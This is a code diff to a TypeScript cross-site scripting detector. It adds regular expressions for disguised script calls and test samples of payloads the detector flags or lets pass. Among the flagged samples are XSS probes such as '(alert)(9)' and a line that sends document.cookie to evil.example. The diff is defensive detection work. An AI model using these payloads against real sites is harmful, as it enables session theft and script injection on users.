@@ -6,12 +6,15 @@ import { sign } from '../signs.ts';
 const reachMax = 1_000;
 /** Functions that attackers call to be seen, and objects that they are after. */
 const call =
-  /(?<!-)\b(?:eval|settimeout|setinterval|function|fetch|import|console\.log|atob|print|open|write(?:ln)?)(?:\((?![1-9]\))|`|\?\.\()|(?<!`)\b(?:alert|confirm|prompt)\s*(?:\(|`|\?\.\()|\]\(\s{0,4}(?:\d|["'`)]|document\b|location\b|window\b|self\b|this\b|origin\b|alert\b)|\[\s{0,4}["'`]constructor["'`]\s{0,4}\]\s{0,4}\(|\breflect\.apply\(\s{0,4}(?:alert|confirm|prompt|eval)\b/i;
+  /(?<!`|[a-z-]-)\b(?:eval|settimeout|setinterval|function(?!\([\w\s,$]{0,80}\)\s{0,2}\{)|fetch|import(?!\(\))|console\.log|atob|print|open|write(?:ln)?)(?:\((?![1-9]\))|`|\?\.\()|(?<!`|[a-z]-)\b(?:alert|confirm|prompt)\s*(?:\(|`|\?\.\()|\]\(\s{0,4}(?:\d|["'`)]|document\b|location\b|window\b|self\b|this\b|origin\b|alert\b)|\[\s{0,4}["'`]constructor["'`]\s{0,4}\]\s{0,4}\(|\breflect\.apply\(\s{0,4}(?:alert|confirm|prompt|eval)\b/i;
 const reach =
   /\bdocument(?:\??\.[a-z]|\s*\[)|\bwindow(?:\.[a-z]|\s*\[)|\blocation\s*(?:=[^=]|\[|\.(?:href|hash|assign|replace|search))|\b(?:localstorage|sessionstorage)\b|\bstring\.fromcharcode|\bconstructor\s*[.[(]|\b(?:top|self|this|parent|frames)\s*\[|\bglobalthis\b|\bxmlhttprequest\b|\.cookie\b/i;
 /** A call that is all of the text or what is left of a script that it stood in, one by a name that is computed, one in a style. */
 const loneCall =
-  /^[^a-z]{0,40}(?:[a-z]\w{0,12}=)?(?:(?:alert|confirm|prompt)(?:(?:\?\.)?\(\s{0,4}(?:\d|['"`/]|document\b|location\b|window\b|this\b|origin\b|self\b)|`)|eval\(\s{0,4}(?:\w{1,20}[+.(]|['"`])|(?:reflect\.apply\(|settimeout`|settimeout\(['"`])\s{0,4}(?:alert|confirm|prompt|eval)\b|\[\]\s{0,4}\[[^\]]{1,80}\]\s{0,4}\[\s{0,4}["'`]constructor["'`]|\[\d\]\.\w+\(alert\))|\b(?:top|self|parent|frames|window)\s{0,4}\[[^\]]{1,80}\]\s{0,4}\(|[;,}]\s{0,4}(?:alert|confirm|prompt)\(\d{0,6}\)\s{0,2}(?:\/\/|;|$)|\bexpression\s{0,4}\(\s{0,4}(?:alert|confirm|prompt|eval|window|document)/i;
+  /^[^a-z]{0,40}(?:[a-z]\w{0,12}=)?(?:(?:alert|confirm|prompt)(?:(?:\?\.)?\(\s{0,4}(?:\d|['"`/]|document\b|location\b|window\b|this\b|origin\b|self\b)|`)|eval\(\s{0,4}(?:\w{1,20}[+.(]|['"`])|(?:reflect\.apply\(|settimeout`|settimeout\(['"`])\s{0,4}(?:alert|confirm|prompt|eval)\b|\[\]\s{0,4}\[[^\]]{1,80}\]\s{0,4}\[\s{0,4}["'`]constructor["'`]|\[\d\]\.\w+\(alert\))|\b(?:top|self|parent|frames|window|globalthis)\s{0,4}\[[^\]]{1,80}\]\s{0,4}\(|[;,}]\s{0,4}(?:alert|confirm|prompt)\(\d{0,6}\)\s{0,2}(?:\/\/|;|$)|\bexpression\s{0,4}\(\s{0,4}(?:alert|confirm|prompt|eval|window|document)/i;
+/** A call of the same that does not look like one, and what is read here and sent elsewhere. */
+const disguisedCall =
+  /^[^a-z]{0,40}(?:\(\s{0,4}(?:alert|confirm|prompt|eval)\s{0,4}\)\s{0,4}\(|(?:alert|confirm|prompt)\.(?:call|apply|bind)\(|(?:window|self|top|parent|frames|globalthis)\s{0,4}(?:\?\.|\.)\s{0,4}\[?['"]?(?:alert|confirm|prompt|eval)\b|with\(document\)|(?:onerror|[a-z])=(?:alert|eval)\s{0,4}[,;]|document\.body\.innerhtml\s{0,4}=\s{0,4}location\b|(?:document\.|window\.|self\.|top\.)?location(?:\.href)?\s{0,4}=[^=].{0,200}(?:document\.cookie|localstorage|sessionstorage)\b)|\]\.\w{1,16}\(\s{0,4}(?:alert|confirm|prompt|eval)\s{0,4}\)|\]\(\s{0,4}data:text\/html/i;
 /** `<` in UTF-7, and in ASCII with the eighth bit set, which no text has before a name otherwise. */
 const coded = /\+ADw-?\/?[a-z!?]|\u00bc\/?script/i;
 /** What leaves a string of JavaScript: the quote, and something that may follow a value. */
@@ -96,6 +99,11 @@ export const crossSiteScripting = defineAttack({
         note('lone-call', called.index, called.index + called[0].length);
       if (!hasScript && isInMarkup(text, called.index)) note('tag-calls', called.index, called.index + called[0].length);
     }
+    const disguised = disguisedCall.exec(text);
+    if (disguised) {
+      note('calls', disguised.index, disguised.index + disguised[0].length);
+      note('lone-call', disguised.index, disguised.index + disguised[0].length);
+    }
     const reached = reach.exec(text);
     if (reached) note('reaches', reached.index, reached.index + reached[0].length);
     if (reached && /document\.cookie\s{0,4}=[^=]/i.test(text)) note('sets-cookie', reached.index, reached.index + reached[0].length);
@@ -124,6 +132,11 @@ export const crossSiteScripting = defineAttack({
       '&ltscript&gtalert(1)&lt/script&gt',
       '[]["map"]["constructor"]("alert(9)")()',
       'Reflect.apply(alert, null, [9])',
+      '(alert)(9)',
+      '[9].find(alert)',
+      'parent.alert?.(9)',
+      "location = '//evil.example/?' + document.cookie",
+      '[x](data:text/html;base64,PHN2Zz4=)',
       '<p @click="$emit.constructor`alert(9)`()">x</p>',
       '<code>&lt;script&gt;alert(1)&lt;/script&gt;</code>',
     ],
@@ -156,22 +169,41 @@ export const crossSiteScripting = defineAttack({
       'min=2&lt=9&gtm_id=5',
       '<button @click="save(order)">Save</button>',
       'Its prototype has a ["constructor"] as well',
+      'Make <script> in the head behave (again)',
+      'It loads <script> and <style> tags (twice)',
+      'follows redirects in <meta http-equiv="refresh"> tags',
+      '<button onClick={() => save(order)}>Save</button>',
+      '<form onSubmit={handleSubmit}>',
+      'In a `<List>`, the `fetch` requests of `import()` are shared',
+      "document.write(label('May'));",
+      'const raw = window.atob(text);',
+      'Shows a popup by window.open()',
+      'console.log(window.innerHeight);',
+      'With `--import` or `--require` it loads (twice)',
+      'Bring <script setup> to the second version (again)',
+      'the attribute **`hx-confirm`** of `<div>` asks',
     ],
   },
 });
 
 const namedReach = 400;
 
-/** Somebody speaks of the tag: between the backticks of markdown, alone in a piece of code, or as a word of a sentence that holds no code. */
+/**
+ * Somebody speaks of the tag: between the backticks of markdown, alone in a piece of code, or as a word of a sentence. Two words with nothing between
+ * them are no script, whatever follows: a browser runs nothing of what it cannot read whole.
+ */
 function isNamed(text: string, start: number, end: number): boolean {
   if (text.charCodeAt(start - 1) === 0x60 && text.charCodeAt(end) === 0x60) return true;
   if (/<(?:code|kbd|tt)>$/.test(text.slice(Math.max(0, start - 6), start)) && text.startsWith('</', end)) return true;
   const rest = text.slice(end, end + namedReach);
   return (
     /^ (?:tags?|elements?|blocks?)\b/.test(rest) ||
-    (/^ \p{L}+ \p{L}/u.test(rest) && /\p{L} $/u.test(text.slice(0, start)) && !/[(=`;<[]/.test(rest))
+    (/^<script(?:\s+[a-z]{1,12}){0,3}>$/i.test(text.slice(start, end)) && noScript.test(rest))
   );
 }
+
+const noScript =
+  /^[,;]?\s{1,4}(?!(?:var|let|const|new|return|throw|typeof|void|delete|await|async|import|export|function|class|yield|if|else|do|while|for|try)\b)\p{L}+(?:-\p{L}+){0,3} {1,3}(?:<|\p{L})/u;
 
 /** Words go on behind the call, as a sentence about it does. */
 function isSubject(text: string, from: number): boolean {
